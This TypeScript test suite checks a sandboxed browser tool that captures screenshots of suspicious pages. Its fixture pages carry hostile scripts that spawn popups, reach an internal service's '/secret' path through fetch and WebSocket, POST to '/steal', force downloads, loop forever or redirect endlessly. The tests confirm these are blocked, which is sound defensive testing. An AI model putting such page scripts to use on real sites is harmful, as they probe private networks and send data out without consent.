import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { createGuardedNet } from '#lab/lab-net.ts';
import { startWebServer, type WebServer } from '#lab/web/server.ts';
import { systemClock } from '#platform/clock.ts';
import { findChromium, missingSandbox } from '#test/browser/support/find-chromium.ts';
import { capturePage } from './capture-page.ts';

const skip = missingSandbox();
const chromium = { program: findChromium() ?? '', sandbox: true };
let site: WebServer;
/** A service on our own network. Pages must not reach it. */
let neighbor: WebServer;

const html =
  (body: string) =>
  ({ response }: { response: import('node:http').ServerResponse }) =>
    void response.setHeader('content-type', 'text/html').end(`<!doctype html><title>x</title>${body}`);

before(async () => {
  neighbor = await startWebServer({ host: '127.0.0.2' });
  site = await startWebServer({
    behaviors: {
      bank: html(
        '<body style="margin:0;background:#123456"><script>document.body.append("signed in")</script>',
      ),
      rude: html(`<body><script>
        for (let i = 0; i < 5; i++) open('/popup/' + i);
        location.hash = 'x'; alert('hello'); confirm('sure?');
        fetch('http://neighbor.test:${neighbor.port}/secret', { mode: 'no-cors' }).catch(() => 0);
        fetch('http://127.0.0.2:${neighbor.port}/secret', { mode: 'no-cors' }).catch(() => 0);
        new WebSocket('ws://127.0.0.2:${neighbor.port}/secret');
        fetch('/steal', { method: 'POST', body: 'who looks' }).catch(() => 0);
        const a = document.createElement('a'); a.href = '/huge'; a.download = 'x.bin'; a.click();
        fetch('/seen-all');
      </script>`),
      huge: ({ response }) => {
        response.setHeader('content-type', 'application/octet-stream');
        const piece = Buffer.alloc(1 << 20, 'x');
        const pump = () => {
          while (!response.destroyed && response.write(piece));
        };
        response.on('drain', pump);
        pump();
      },
      gigabyte: ({ response }) => {
        response.setHeader('content-type', 'text/html');
        const piece = Buffer.from('<p>larkspur sign in</p>'.repeat(40_000));
        const pump = () => {
          while (!response.destroyed && response.write(piece));
        };
        response.on('drain', pump);
        pump();
      },
      busy: html('<body style="background:#00ff00">look<script>for(;;);</script>'),
      hop: ({ response, argument }) => {
        response.writeHead(302, { location: `/hop/${Number(argument || 0) + 1}` }).end();
      },
    },
  });
});
after(() => Promise.all([site.close(), neighbor.close()]));

/** Generous limits, so that pages finish loading even on a busy machine. */
const generous = { showMs: 30_000, pictureMs: 30_000 };

const capture = (path: string, waitLimits?: { showMs: number; pictureMs: number }) =>
  capturePage(
    `http://login.evil.test/${path}`,
    chromium,
    {
      net: createGuardedNet({
        hosts: { 'login.evil.test': ['127.0.0.1'], 'neighbor.test': ['127.0.0.2'] },
      }),
      clock: systemClock,
      signal: new AbortController().signal,
      ports: { http: site.port, https: 1 },
      contactUrl: null,
    },
    waitLimits,
  );
const requestsOf = (path: string) => site.requests.filter(({ url }) => url.startsWith(path)).length;

test('captures a page as a visitor sees it, with a browser that leaves no data behind', {
  skip,
}, async () => {
  const { picture, failure } = await capture('bank', generous);
  assert.equal(failure, null);
  assert.deepEqual([picture?.subarray(1, 4).toString(), picture?.readUInt32BE(16)], ['PNG', 1280]);
});

test('stops a hostile page from opening windows, storing data, sending POST requests or reaching our network', {
  skip,
}, async () => {
  const { failure } = await capture('rude', generous);
  assert.equal(failure, null);
  assert.ok(requestsOf('/seen-all') > 0, 'its script ran to the end');
  assert.deepEqual([requestsOf('/popup'), requestsOf('/steal'), neighbor.requests.length], [0, 0, 0]);
});

test('captures endless pages and pages with busy scripts, but not endless redirects', {
  skip,
}, async () => {
  const quick = { showMs: 1_500, pictureMs: 1_000 };
  const endless = await capture('gigabyte', quick);
  const busy = await capture('busy', quick);
  const round = await capture('hop');
  assert.deepEqual([busy.failure, round.failure], [null, 'page-not-shown']);
  assert.ok(endless.failure === null || endless.failure === 'page-not-shown');
});

test('there is no screenshot and no error without a browser', async () => {
  const none = await capturePage(
    'http://login.evil.test/bank',
    { program: '/no/such/program', sandbox: true },
    {
      net: createGuardedNet({ hosts: { 'login.evil.test': ['127.0.0.1'] } }),
      clock: systemClock,
      signal: new AbortController().signal,
      ports: { http: site.port, https: 1 },
      contactUrl: null,
    },
  );
  assert.deepEqual(none, { picture: null, failure: 'browser-did-not-start' });
});

test('returns no screenshot and no error for an invalid address', async () => {
  const given = {
    net: createGuardedNet({ hosts: {} }),
    clock: systemClock,
    signal: new AbortController().signal,
    ports: { http: site.port, https: 1 },
    contactUrl: null,
  };
  const none = await capturePage('http://', chromium, given);
  assert.deepEqual(none, { picture: null, failure: 'page-not-shown' });
});

test('a capture that is canceled while the browser starts ends immediately', async () => {
  const stop = new AbortController();
  // The fake browser never responds. The capture is aborted after its start, before anything listens for the abort.
  const path = mkdtempSync(join(tmpdir(), 'belltower-slow-'));
  const program = join(path, 'chromium');
  writeFileSync(program, '#!/bin/sh\nexec sleep 30\n', { mode: 0o755 });
  chmodSync(path, 0o755);
  setImmediate(() => stop.abort());
  try {
    const none = await capturePage(
      'http://login.evil.test/bank',
      { program, sandbox: true },
      {
        net: createGuardedNet({ hosts: { 'login.evil.test': ['127.0.0.1'] } }),
        clock: systemClock,
        signal: stop.signal,
        ports: { http: site.port, https: 1 },
        contactUrl: null,
      },
    );
    assert.deepEqual(none, { picture: null, failure: 'time-is-up' });
  } finally {
    rmSync(path, { recursive: true });
  }
});
